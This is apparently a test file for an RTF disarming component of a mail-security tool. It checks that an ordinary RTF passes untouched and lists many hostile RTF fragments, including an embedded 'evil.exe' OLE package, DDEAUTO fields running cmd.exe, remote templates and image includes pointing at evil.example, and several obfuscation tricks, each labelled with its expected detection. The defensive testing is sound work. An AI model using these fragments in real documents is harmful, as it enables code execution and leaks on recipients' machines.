"""RTF that acts, and an ordinary document."""

from __future__ import annotations

import io

from oletools.rtfobj import RtfObjParser
from PIL import Image

from mailguard.formats.disarmed import Options
from mailguard.formats.rtf.disarm import disarm


def image(kind="PNG"):
    output = io.BytesIO()
    Image.linear_gradient("L").resize((8, 8)).convert("RGB").save(output, kind)
    return output.getvalue()


def document(inner):
    return rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\f0 before " + inner + rb" after\par}"


def objects(data):
    """What oletools finds, our detection apart."""
    parser = RtfObjParser(data)
    parser.parse()
    return parser.objects


def field(instruction, result=b"result"):
    return rb"{\field{\*\fldinst {" + instruction + rb"}}{\fldrslt {" + result + rb"}}}"


def package():
    from oletools.oleobj import OleObject  # noqa: F401 (the peer that reads it)

    name, payload = b"evil.exe\0", b"MZ evil"
    native = (
        b"\2\0"
        + name
        + name
        + b"\0\0\3\0"
        + len(name).to_bytes(4, "little")
        + name
        + len(payload).to_bytes(4, "little")
        + payload
    )
    header = b"\1\5\0\0\2\0\0\0\x08\0\0\0Package\0" + bytes(8)
    return (header + len(native).to_bytes(4, "little") + native).hex().encode()


OBJECT = rb"{\object\objemb\objw100\objh100{\*\objclass Package}{\*\objdata " + package() + rb"}{\result {shown}}}"


ORDINARY = document(
    rb"{\b bold} \u12354?\'82\'a0 {\*\bkmkstart a}x{\*\bkmkend a}"
    + field(rb'HYPERLINK "https://example.com/a?b=c" \\o "tip"')
    + field(rb"PAGE  \\* MERGEFORMAT")
    + field(rb'HYPERLINK "#a"')
    + rb"{\*\listtable{\list{\listlevel{\leveltext \'02\'00.;}{\levelnumbers\'01;}}{\listlevel{\leveltext\'13x;}}}}"
    + field(rb'TOC \\t "\u35211 ?,1"')
    + rb"{\*\shppict{\pict\picw8\pich8\pngblip "
    + image().hex().encode()
    + rb"}}{\shp{\*\shpinst\shpleft0{\sp{\sn shapeType}{\sv 202}}{\sp{\sn wzName}{\sv Box}}{\shptxt box}}}"
    + rb"{\footnote note}{\info{\author A}}"
)


def test_an_ordinary_document_comes_back_as_it_came():
    result = disarm(ORDINARY, "application/rtf", Options())
    assert (result.removed, result.data is ORDINARY, result.extension) == ((), True, "rtf")


THREATS = {
    "object": (OBJECT, "embedded-object"),
    "bare-object": (rb"{\object\objdata 0105000002000000}", "embedded-object"),
    "split-word": (rb"{\object{\*\obj" + b"\n" + rb"data 0105000002}}", "embedded-object"),
    "broken-word": (rb"{\obj\'65ct{\*\objdata 01050000}}", "embedded-object"),
    "broken-data": (rb"{\object{\*\objdata 0105{\*\foo bar}0000\'41{\bin3 {}}02}}", "embedded-object"),
    "long-number": (rb"{\object\objdata000000000000000001 0105}", "embedded-object"),
    "unclosed": (rb"{\object{\*\objdata 010500000200000008000000", "embedded-object"),
    "ocx": (rb"{\object\objocx{\*\objdata 01050000}}", "embedded-object"),
    "update": (rb"{\object\objautlink\objupdate{\*\objdata 01050000}}", "embedded-object"),
    "template": (rb"{\*\template http://evil.example/x.dotm}", "remote-template"),
    "plain-template": (rb"{\template \\\\evil.example\\x.dotm}", "remote-template"),
    "dde": (field(rb'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "dde"),
    "split-dde": (rb"{\field{\*\fldinst {DD}{\b EAU}TO evil}{\fldrslt x}}", "dde"),
    "hex-dde": (field(rb"\'44\'44E evil"), "dde"),
    "unicode-dde": (field(rb"\uc0\u68 \u68 \u69  evil"), "dde"),
    "quoted-dde": (
        rb"{\field{\*\fldinst {{\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} evil}}{\fldrslt x}}",
        "dde",
    ),
    "dde behind a substitute": (field(rb"\uc10\u32 PAGE      DDEAUTO evil"), "dde"),
    "dde behind an alternative": (field(rb"{\upr{PAGE }{\*\ud{DDEAUTO evil}}}"), "dde"),
    "dde behind a bookmark": (field(rb"{\*\bkmkstart PAGE }{DDEAUTO evil}"), "dde"),
    "dde behind a footnote": (field(rb"{\footnote PAGE }DDEAUTO evil"), "dde"),
    "dde behind deleted text": (field(rb"{\deleted PAGE }DDEAUTO evil"), "dde"),
    "dde by marks": (rb"{\'13 DDEAUTO\'14 x\'15}", "ambiguous-markup"),
    "dde by unicode marks": (rb"{\u19 DDEAUTO\u20 x\u21 }", "ambiguous-markup"),
    "link behind a substitute": (field(rb'HYPERLINK \uc24\u32 "http://ok/" \\o "        \\l "a"'), "hyperlink"),
    "include": (field(rb'INCLUDETEXT "http://evil.example/x"'), "external-relationship"),
    "picture": (field(rb'INCLUDEPICTURE "http://evil.example/x.png" \\d'), "remote-image"),
    "link": (field(rb"LINK Excel.Sheet.8 evil"), "external-relationship"),
    "macrobutton": (field(rb"MACROBUTTON evil click"), "macro"),
    "unc": (field(rb'HYPERLINK "\\\\\\\\evil.example\\\\x"'), "hyperlink"),
    "protocol": (field(rb'HYPERLINK "ms-word:ofe|u|http://evil.example"'), "hyperlink"),
    "macro": (rb"{\*\formfield{\fftype0{\*\ffentrymcr evil}}}", "macro"),
    "store": (rb"{\*\datastore 0105000002000000d0cf11e0}", "unknown-part"),
    "font": (rb"{\fonttbl{\f1{\*\fontemb{\*\fontfile evil.ttf}00}}}", "embedded-font"),
    "merge": (rb"{\*\mailmerge{\*\mmconnectstr evil}}", "external-relationship"),
    "mail-data": (rb"{\*\mmdatasource evil}", "external-relationship"),
    "unknown": (rb"{\*\evilword text}", "unknown-part"),
    "metafile": (rb"{\pict\wmetafile8 0100090000}", "unknown-part"),
    "bad-picture": (rb"{\pict\pngblip 89504e470d0a1a0a}", "unknown-part"),
    "binary": (rb"{\bin7 {\evil}}", "unknown-part"),
    "fragments": (rb"{\shp{\*\shpinst{\sp{\sn pFragments}{\sv 1;1;01020304}}}}", "active-content"),
    "same-group": (rb"{\shp{\*\shpinst{\sp\sn pibName\sv http://evil.example/x}}}", "ambiguous-markup"),
    "picture-name": (rb"{\shp{\*\shpinst{\sp{\sn pibName}{\sv http://evil.example/x}}}}", "unknown-part"),
    "shape-link": (rb"{\shp{\*\shpinst{\sp{\sn pihlShape}{\sv {\*\hl{\hlsrc evil}}}}}}", "hyperlink"),
    "next-file": (rb"{\*\nextfile evil.rtf}", "remote-template"),
    "double-octet": (b"\x83" + rb"\\object evil", "ambiguous-markup"),
    "nul": (b"text\0text", "repaired"),
    "symbol": (rb"\;text", "repaired"),
}
